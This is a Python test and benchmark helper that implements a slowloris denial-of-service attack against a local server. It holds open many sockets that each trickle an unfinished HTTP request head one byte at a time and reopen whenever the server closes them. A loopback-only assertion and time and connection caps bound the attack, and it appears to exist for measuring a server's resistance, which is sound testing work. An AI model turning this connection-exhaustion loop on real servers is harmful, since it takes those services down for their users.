"""A slowloris attack for tests and benchmarks, on loopback only: CONNECTIONS sockets
that each send a request head one byte per INTERVAL and never finish it; a socket the
server closes is opened again at its next tick (INTERVAL later), as slowloris tools
do, so that the attack keeps CONNECTIONS open or opening. Bounded in time (SECONDS)
and in connects (MAX_CONNECTS); one thread, non-blocking sockets.

As a program (for tests/bench/stoppage_bench.sh): slowloris.py HOST PORT CONNECTIONS SECONDS
prints one JSON line of statistics when done."""

import collections
import errno
import json
import selectors
import socket
import sys
import threading
import time

HEAD = b"GET /slow HTTP/1.1\r\nHost: slowloris.example\r\nUser-Agent: slowloris\r\n"
TRICKLE = b"X-Padding-" + b"a" * 100_000  # never ends with the blank line


class Slowloris:
    def __init__(self, host, port, connections, interval=1.0, seconds=30.0, max_connects=200_000):
        assert host.startswith("127.") or host == "::1", "loopback only"
        self.address = (host, port)
        self.family = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.connections = connections
        self.interval = interval
        self.seconds = seconds
        self.max_connects = max_connects
        self.connects = 0
        self.closed_by_server = 0
        self.open_now = 0        # sockets connected and not yet closed
        self.most_open = 0
        self.lifetimes = []      # seconds from connect to the server's close
        self._stop = threading.Event()
        self._thread = None

    def start(self):
        self._thread = threading.Thread(target=self.run, daemon=True)
        self._thread.start()
        return self

    def stop(self):
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=30)

    def __enter__(self):
        return self.start()

    def __exit__(self, *exception):
        self.stop()

    def stats(self):
        return {"connections": self.connections, "connects": self.connects, "closed_by_server": self.closed_by_server,
                "most_open": self.most_open,
                "median_lifetime_s": sorted(self.lifetimes)[len(self.lifetimes) // 2] if self.lifetimes else None}

    def run(self):
        selector = selectors.DefaultSelector()
        deadline = time.monotonic() + self.seconds

        def open_one():
            if self.connects >= self.max_connects:
                return
            self.connects += 1
            connection = socket.socket(self.family, socket.SOCK_STREAM)
            connection.setblocking(False)
            result = connection.connect_ex(self.address)
            state = {"sent": 0, "next": 0.0, "since": None, "closed": False}
            if result not in (0, errno.EINPROGRESS):
                connection.close()
                return
            selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE, state)

        def close(connection, by_server):
            state = selector.get_key(connection).data
            state["closed"] = True
            selector.unregister(connection)
            connection.close()
            if state["since"] is not None:
                self.open_now -= 1
                if by_server:
                    self.closed_by_server += 1
                    self.lifetimes.append(time.monotonic() - state["since"])
            reopen_at.append(time.monotonic() + self.interval)

        def send_next(connection, state, now):
            """The head in one piece at once, as a browser sends it, then the padding a
            byte per interval; `due` stays in time order because every entry is now +
            interval."""
            piece = HEAD if state["sent"] == 0 else TRICKLE[state["sent"] - len(HEAD):][:1]
            try:
                connection.send(piece)
            except OSError:
                close(connection, by_server=True)
                return
            state["sent"] += len(piece)
            state["next"] = now + self.interval
            due.append((connection, state))

        reopen_at = collections.deque()  # when each socket the server closed is opened again
        due = collections.deque()  # connected sockets in the order their next byte is due
        for _ in range(self.connections):
            open_one()
        try:
            while not self._stop.is_set() and time.monotonic() < deadline:
                now = time.monotonic()
                while reopen_at and reopen_at[0] <= now:
                    reopen_at.popleft()
                    open_one()
                for key, events in selector.select(timeout=0.05):
                    connection, state = key.fileobj, key.data
                    if state["since"] is None and events & selectors.EVENT_WRITE:
                        if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                            close(connection, by_server=False)
                            continue
                        state["since"] = now
                        self.open_now += 1
                        self.most_open = max(self.most_open, self.open_now)
                        selector.modify(connection, selectors.EVENT_READ, state)
                        send_next(connection, state, now)
                        continue
                    if events & selectors.EVENT_READ:
                        try:
                            data = connection.recv(4096)
                        except OSError:
                            data = b""
                        if not data:  # the server closed it (anything it sent is an error status)
                            close(connection, by_server=True)
                while due and due[0][1]["next"] <= now:
                    connection, state = due.popleft()
                    if not state["closed"]:
                        send_next(connection, state, now)
        finally:
            for key in list(selector.get_map().values()):
                key.fileobj.close()
            selector.close()


if __name__ == "__main__":
    host, port, connections, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    attack = Slowloris(host, port, connections, seconds=seconds)
    attack.run()
    print(json.dumps(attack.stats()))
